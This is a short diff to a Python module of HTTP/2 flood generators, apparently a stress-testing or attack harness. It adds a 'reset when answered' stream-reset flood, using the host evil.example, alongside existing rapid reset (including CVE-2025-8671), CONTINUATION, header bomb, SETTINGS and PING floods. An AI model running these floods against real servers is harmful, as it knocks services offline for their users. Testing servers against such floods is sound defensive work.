@@ -18,6 +18,13 @@ def rapid_reset():
         yield headers(request(), stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
 
 
+def reset_when_answered():
+    """Of what is answered before the reset is read."""
+    for stream in range(1, 2 * FRAMES_MAX, 2):
+        yield headers(request(host=b"evil.example"), stream) + \
+            frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
+
+
 def made_to_reset():
     """Requests that the server resets itself (CVE-2025-8671)."""
     for stream in range(1, 2 * FRAMES_MAX, 2):
@@ -66,7 +73,8 @@ def behind_a_head(made):
 
 
 FLOODS = {
-    "rapid reset": rapid_reset, "made to reset": made_to_reset, "malformed requests": malformed,
+    "rapid reset": rapid_reset, "reset when answered": reset_when_answered,
+    "made to reset": made_to_reset, "malformed requests": malformed,
     "CONTINUATION": continuation, "empty CONTINUATION": empty_continuation,
     "header bomb": header_bomb, "SETTINGS": forever(frame(SETTINGS)),
     "PING": forever(frame(PING, payload=bytes(8))),
